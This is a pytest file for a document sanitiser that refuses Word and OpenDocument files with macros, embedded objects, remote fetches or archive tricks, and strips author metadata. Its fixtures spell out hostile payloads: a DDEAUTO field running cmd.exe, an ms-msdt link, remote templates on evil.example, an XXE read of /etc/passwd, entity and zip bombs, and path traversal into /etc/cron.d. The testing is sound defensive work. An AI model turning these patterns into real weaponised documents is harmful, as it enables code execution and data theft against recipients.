"""Word and OpenDocument texts: what runs, fetches, is embedded or unpacks without end is refused; the text stays."""

import zipfile
from io import BytesIO

import pytest

from umstieg.core.files import archives, refusals
from umstieg.core.files.checking import checked
from umstieg.core.tests.test_checked_files import why_refused
from umstieg.testing.files import (
    AUTHOR,
    HEAD,
    MAIN_TYPE,
    R,
    W,
    a_docx,
    a_pdf,
    a_picture,
    an_archive,
    an_odt,
    docx_parts,
    odt_parts,
    parts_of,
)

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
DTD = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>'


def field(*instructions):
    """A field of Word whose instruction is written in several runs."""
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instructions)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


DOCX_REFUSED = {
    "macros": (a_docx(**{"word/vbaProject.bin": b"\0\1"}), refusals.MACROS),
    "macros named otherwise": (a_docx(main_type=MACRO_TYPE), refusals.MACROS),
    "macros beside a plain type": (
        a_docx(types=f'<Override PartName="/word/x.bin" ContentType="{MACRO_TYPE}"/>'),
        refusals.MACROS,
    ),
    "template": (a_docx(main_type=MAIN_TYPE.replace("document.main", "template.main")), refusals.UNKNOWN),
    "spreadsheet": (a_docx(main_type="application/vnd.ms-excel"), refusals.UNKNOWN),
    "OLE object": (a_docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), refusals.EMBEDDED),
    "spreadsheet inside": (
        a_docx(**{"word/embeddings/a.xlsx": an_archive({"a": "a"})}),
        refusals.EMBEDDED,
    ),
    "archive inside": (a_docx(**{"word/media/image1.png": an_archive({"a": "a"})}), refusals.EMBEDDED),
    "program inside": (a_docx(**{"word/media/image1.png": b"MZ\x90" * 30}), refusals.EMBEDDED),
    "PDF inside": (a_docx(**{"word/media/image1.png": a_pdf()}), refusals.EMBEDDED),
    "HTML inside": (a_docx(**{"word/page.html": "<script/>"}), refusals.EMBEDDED),
    "ActiveX": (a_docx(**{"word/activeX/activeX1.xml": "<x/>"}), refusals.EMBEDDED),
    "object of the text": (a_docx('<w:p><w:r><w:object r:id="rId9"/></w:r></w:p>'), refusals.EMBEDDED),
    "chunk of another kind": (a_docx('<w:altChunk r:id="rId9"/>'), refusals.EMBEDDED),
    "relation to an object": (a_docx(relations=[("rId9", "oleObject", "a.bin", False)]), refusals.EMBEDDED),
    "picture from elsewhere": (
        a_docx(relations=[("rId9", "image", "https://evil.example/a.png", True)]),
        refusals.FETCHES,
    ),
    "template from elsewhere": (
        a_docx(relations=[("rId9", "glossaryDocument", "https://evil.example/a.dotm", True)]),
        refusals.FETCHES,
    ),
    "page in a frame": (a_docx(relations=[("rId9", "frame", "https://evil.example/", True)]), refusals.EMBEDDED),
    "link to a share": (a_docx(relations=[("rId9", "hyperlink", "\\\\evil\\a", True)]), refusals.FETCHES),
    "link to a file": (a_docx(relations=[("rId9", "hyperlink", "file:///c:/a.exe", True)]), refusals.FETCHES),
    "link to a program": (a_docx(relations=[("rId9", "hyperlink", "ms-msdt:/id", True)]), refusals.FETCHES),
    "DDE": (a_docx(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), refusals.FETCHES),
    "DDE in pieces": (a_docx(field(" D", "D", "E", " cmd")), refusals.FETCHES),
    "DDE of a simple field": (a_docx('<w:p><w:fldSimple w:instr=" DDE cmd"/></w:p>'), refusals.FETCHES),
    "picture of a field": (a_docx(field('INCLUDEPICTURE "https://evil.example/a"')), refusals.FETCHES),
    "field made by a field": (
        a_docx(field("").replace("</w:p>", "").replace('"end"', '"begin"') + "</w:p>"),
        refusals.ACTIVE,
    ),
    "SVG with script": (a_docx(**{"word/media/a.svg": SVG.format("<script>alert(1)</script>")}), refusals.ACTIVE),
    "SVG with a handler": (a_docx(**{"word/media/a.svg": SVG.format('<g onload="alert(1)"/>')}), refusals.ACTIVE),
    "SVG from elsewhere": (
        a_docx(**{"word/media/a.svg": SVG.format('<image xlink:href="https://evil.example"/>')}),
        refusals.ACTIVE,
    ),
    "SVG with a page": (a_docx(**{"word/media/a.svg": SVG.format("<foreignObject/>")}), refusals.ACTIVE),
    "entities": (a_docx(**{"word/styles.xml": f"{HEAD}{DTD}<x>&c;</x>"}), refusals.DAMAGED),
    "file by an entity": (
        a_docx(**{"word/styles.xml": f'{HEAD}<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}),
        refusals.DAMAGED,
    ),
    "without end": (a_docx(**{"word/styles.xml": f"{HEAD}{'<a>' * 9000}{'</a>' * 9000}"}), refusals.BOMB),
    "program as a font": (a_docx(**{"word/fonts/font1.odttf": b"MZ\x90" * 30}), refusals.EMBEDDED),
    "archive as a font": (a_docx(**{"word/fonts/font1.odttf": an_archive({"a": "a"})}), refusals.EMBEDDED),
    "nothing that leads to its text": (
        an_archive({name: part for name, part in docx_parts().items() if name != "_rels/.rels"}),
        refusals.DAMAGED,
    ),
    "no XML": (a_docx(**{"word/styles.xml": "hallo"}), refusals.DAMAGED),
}


@pytest.mark.parametrize("what", DOCX_REFUSED)
def test_a_word_document_is_refused_for(what):
    content, why = DOCX_REFUSED[what]
    assert why_refused("a.docx", content) == why


OBJECT = '<draw:frame><draw:{} xlink:href="{}"/></draw:frame>'
EVENT = '<office:event-listeners><script:event-listener script:language="ooo:script"/></office:event-listeners>'
KEY = '<manifest:encryption-data xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
ODT_REFUSED = {
    "macros": (an_odt(**{"Basic/Standard/Modul.xml": "<x/>"}), refusals.MACROS),
    "scripts": (an_odt(**{"Scripts/python/a.py": "import os"}), refusals.MACROS),
    "event": (an_odt(EVENT), refusals.MACROS),
    "script of the text": (an_odt('<text:script script:language="x">a</text:script>'), refusals.MACROS),
    "object": (an_odt(OBJECT.format("object", "./Object 1")), refusals.EMBEDDED),
    "OLE object": (an_odt(OBJECT.format("object-ole", "./Object 1")), refusals.EMBEDDED),
    "files of an object": (an_odt(**{"Object 1/content.xml": "<x/>"}), refusals.EMBEDDED),
    "plugin": (an_odt(OBJECT.format("plugin", "a")), refusals.EMBEDDED),
    "page in a frame": (an_odt(OBJECT.format("floating-frame", "https://evil.example")), refusals.EMBEDDED),
    "picture from elsewhere": (an_odt(OBJECT.format("image", "https://evil.example/a.png")), refusals.FETCHES),
    "picture of a share": (an_odt(OBJECT.format("image", "//evil/a.png")), refusals.FETCHES),
    "picture of a file": (an_odt(OBJECT.format("image", "../../../etc/passwd")), refusals.FETCHES),
    "text from elsewhere": (an_odt('<text:section-source xlink:href="https://evil.example"/>'), refusals.FETCHES),
    "DDE": (
        an_odt('<text:section><office:dde-source office:dde-application="soffice"/></text:section>'),
        refusals.FETCHES,
    ),
    "link to a macro": (an_odt('<text:a xlink:href="vnd.sun.star.script:a?language=Basic"/>'), refusals.FETCHES),
    "link to a file": (an_odt('<text:a xlink:href="file:///c:/a.exe"/>'), refusals.FETCHES),
    "password": (an_odt(**{"META-INF/manifest.xml": f"{HEAD}{KEY}"}), refusals.LOCKED),
    "entities": (an_odt(**{"styles.xml": f"{HEAD}{DTD}<x>&c;</x>"}), refusals.DAMAGED),
    "program inside": (an_odt(**{"Pictures/a.png": b"MZ\x90" * 30}), refusals.EMBEDDED),
    "SVG": (an_odt(**{"Pictures/a.svg": SVG.format("")}), refusals.EMBEDDED),
    "another file": (an_odt(**{"a.html": "<script/>"}), refusals.EMBEDDED),
    "spreadsheet": (an_odt(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"), refusals.UNKNOWN),
}


@pytest.mark.parametrize("what", ODT_REFUSED)
def test_an_opendocument_text_is_refused_for(what):
    content, why = ODT_REFUSED[what]
    assert why_refused("a.odt", content) == why


# --- archives --------------------------------------------------------------------------------------


def a_bomb(size):
    return an_archive(docx_parts(**{"word/styles.xml": f"{HEAD}<x>{' ' * size}</x>"}))


def overlapping():
    """Two names of the list lead to the same bytes."""
    content = a_docx(**{"word/a.xml": "<x/>"})
    at = content.rindex(b"PK\x01\x02")
    end = content.rindex(b"PK\x05\x06")
    double = content[at:end].replace(b"word/a.xml", b"word/b.xml")
    tail = bytearray(content[end:])
    for where, more in ((8, 1), (10, 1)):
        tail[where : where + 2] = (int.from_bytes(tail[where : where + 2], "little") + more).to_bytes(2, "little")
    size = int.from_bytes(tail[12:16], "little") + len(double)
    tail[12:16] = size.to_bytes(4, "little")
    return content[:end] + double + bytes(tail)


def with_gap():
    """Bytes that belong to no part, before the list of parts."""
    content = a_docx()
    end = content.rindex(b"PK\x05\x06")
    begin = int.from_bytes(content[end + 16 : end + 20], "little")
    gap = b"<script>alert(1)</script>" * 4
    tail = bytearray(content[end:])
    tail[16:20] = (begin + len(gap)).to_bytes(4, "little")
    return content[:begin] + gap + content[begin:end] + bytes(tail)


def hidden():
    """A part that the list does not name."""
    content = an_archive({"a.exe": b"MZ" * 200} | docx_parts())
    end = content.rindex(b"PK\x05\x06")
    begin = int.from_bytes(content[end + 16 : end + 20], "little")
    second = content.index(b"PK\x01\x02", begin + 4)
    tail = bytearray(content[end:])
    for where, less in ((8, 1), (10, 1), (12, second - begin)):
        tail[where : where + 2] = (int.from_bytes(tail[where : where + 2], "little") - less).to_bytes(2, "little")
    tail[16:20] = second.to_bytes(4, "little")
    return content[:begin] + b"\0" * (second - begin) + content[second:end] + bytes(tail)


def running_over():
    """A last part that goes on into the list of parts."""
    content = bytearray(a_docx())
    at = content.rindex(b"PK\x01\x02")
    size = int.from_bytes(content[at + 20 : at + 24], "little") + 30
    content[at + 20 : at + 24] = size.to_bytes(4, "little")
    return bytes(content)


def flagged(bit):
    """The bit set in the flags of every part."""
    content = bytearray(a_docx())
    for mark, where in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + where] |= bit
            at = content.find(mark, at + 4)
    return bytes(content)


def twice():
    content = BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in docx_parts().items():
            archive.writestr(name, part)
        with pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr("word/document.xml", "<x/>")
    return content.getvalue()


ARCHIVES = {
    "unpacks without end": (a_bomb(30 * 1024 * 1024), refusals.BOMB),
    "unpacks too far": (a_bomb(archives.MOST_UNPACKED), refusals.BOMB),
    "too many parts": (a_docx(**{f"word/a{n}.xml": "<x/>" for n in range(archives.MOST_ENTRIES)}), refusals.BOMB),
    "overlapping parts": (overlapping(), refusals.BOMB),
    "bytes between the parts": (with_gap(), refusals.ADDED),
    "a part that is not named": (hidden(), refusals.ADDED),
    "a part that runs over": (running_over(), refusals.BOMB),
    "bytes behind": (a_docx() + b"MZ" * 20, refusals.ADDED),
    "a comment": (a_docx()[:-2] + b"\x04\x00abcd", refusals.ADDED),
    "a PDF in front": (a_pdf() + a_docx(), refusals.UNKNOWN),
    "a part twice": (twice(), refusals.DAMAGED),
    "a password": (flagged(1), refusals.LOCKED),
    "a way out": (a_docx(**{"../../etc/cron.d/a.xml": "<x/>"}), refusals.DAMAGED),
    "a way from the root": (a_docx(**{"/etc/cron.d/a.xml": "<x/>"}), refusals.DAMAGED),
    "a way on Windows": (a_docx(**{"word\\..\\..\\a.xml": "<x/>"}), refusals.DAMAGED),
    "another way of packing": (a_docx(**{"word/a.xml": (b"<x/>" * 99, zipfile.ZIP_BZIP2)}), refusals.DAMAGED),
    "a PDF as its first part": (
        an_archive({"a.pdf": (a_pdf(), zipfile.ZIP_STORED)} | docx_parts()),
        refusals.ADDED,
    ),
}


@pytest.mark.parametrize("what", ARCHIVES)
def test_an_archive_is_refused_for(what):
    content, why = ARCHIVES[what]
    expected = why if what != "a PDF in front" else refusals.ADDED
    name = "a.pdf" if what == "a PDF in front" else "a.docx"
    assert why_refused(name, content) == expected


def test_a_size_that_is_a_lie_does_not_unpack_more():
    content = bytearray(a_bomb(2 * 1024 * 1024))
    at = content.rindex(b"PK\x01\x02")
    while b"word/styles.xml" not in content[at : at + 80]:
        at = content.rindex(b"PK\x01\x02", 0, at)
    content[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    assert why_refused("a.docx", bytes(content)) == refusals.DAMAGED


# --- what stays ------------------------------------------------------------------------------------


def kept(name, content):
    return parts_of(checked(name=name, content=content).content)


def test_a_template_of_the_authors_computer_is_forgotten():
    parts = kept("a.docx", a_docx())
    assert b"attachedTemplate" not in parts["word/settings.xml"] + parts["word/_rels/settings.xml.rels"]
    assert b"erika" not in b"".join(parts.values())


def test_of_who_wrote_a_word_document_nothing_stays():
    parts = kept("a.docx", a_docx(**{"customXml/item1.xml": f"<x>{AUTHOR}</x>", "docProps/custom.xml": "<x/>"}))
    assert not [name for name in parts if name.startswith(("docProps", "customXml")) or "people" in name]
    told = b"".join(parts.values())
    assert b"rsid" not in told
    assert b"2026-03-04T10:11:12Z" not in told
    assert b"w:date=" not in told, "an empty one would be no date"
    assert 'w:author="–"'.encode() in parts["word/document.xml"]
    assert b"docProps" not in parts["[Content_Types].xml"] + parts["_rels/.rels"]


def test_of_who_wrote_an_opendocument_text_nothing_stays():
    parts = kept("a.odt", an_odt())
    assert parts.keys() == {"mimetype", "content.xml", "styles.xml", "META-INF/manifest.xml"}
    assert b"rsid=" not in parts["content.xml"]


def test_prefixes_stay_as_word_wants_them():
    document = kept("a.docx", a_docx())["word/document.xml"].decode()
    assert 'mc:Ignorable="w14"' in document
    assert "xmlns:w14=" in document
    assert f'xmlns:w="{W}"' in document


def test_pictures_links_and_plain_fields_of_a_word_document_stay():
    body = f'<w:p><w:hyperlink r:id="rId4"><w:r><w:t>Netz</w:t></w:r></w:hyperlink></w:p>{field(" PAGE ")}'
    relations = [("rId9", "image", "media/image1.png", False), ("rId8", "image", "/word/media/image2.jpg", False)]
    pictures = {"word/media/image1.png": a_picture("PNG"), "word/media/image2.jpg": a_picture()}
    parts = kept("a.docx", a_docx(body, relations=relations, **pictures))
    assert parts["word/media/image1.png"].startswith(b"\x89PNG")
    assert AUTHOR.encode() not in b"".join(parts.values())
    assert all(word in parts["word/document.xml"] for word in (b"Netz", b" PAGE ", b'r:id="rId4"'))
    related = parts["word/_rels/document.xml.rels"].decode()
    assert all(f'Id="{key}"' in related for key in ("rId4", "rId8", "rId9"))
    assert f"{R}/people" not in related


def test_a_nested_field_behind_its_instruction_is_honest():
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> IF </w:instrText>'
        '<w:fldChar w:fldCharType="begin"/><w:instrText> PAGE </w:instrText><w:fldChar w:fldCharType="end"/>'
        '<w:fldChar w:fldCharType="separate"/><w:t>1</w:t><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    assert b" IF " in kept("a.docx", a_docx(body))["word/document.xml"]


def test_a_picture_of_shapes_stays():
    parts = kept("a.docx", a_docx(**{"word/media/a.svg": SVG.format('<path d="M0 0"/>')}))
    assert b'<path d="M0 0"/>' in parts["word/media/a.svg"]


def test_pictures_and_links_of_an_opendocument_text_stay():
    body = OBJECT.format("image", "Pictures/a.jpg")
    parts = kept("a.odt", an_odt(body, **{"Pictures/a.jpg": a_picture()}))
    assert AUTHOR.encode() not in parts["Pictures/a.jpg"]
    assert b"Pictures/a.jpg" in parts["META-INF/manifest.xml"]
    assert b"https://www.example.org/" in parts["content.xml"]


def test_the_kind_of_an_opendocument_text_stands_first_and_unpacked():
    content = checked(name="a.odt", content=an_archive(dict(reversed(odt_parts().items())))).content
    assert content[30:38] == b"mimetype"
    assert content[38:].startswith(b"application/vnd.oasis.opendocument.text")


def test_the_parts_carry_no_dates():
    with zipfile.ZipFile(BytesIO(checked(name="a.docx", content=a_docx()).content)) as archive:
        assert {one.date_time for one in archive.infolist()} == {archives.NO_DATE}


def test_a_relation_to_what_is_gone_is_gone():
    relations = [("rId7", "customXml", "../customXml/item1.xml", False)]
    parts = kept("a.docx", a_docx(relations=relations, **{"customXml/item1.xml": "<x/>"}))
    assert b"rId7" not in parts["word/_rels/document.xml.rels"]
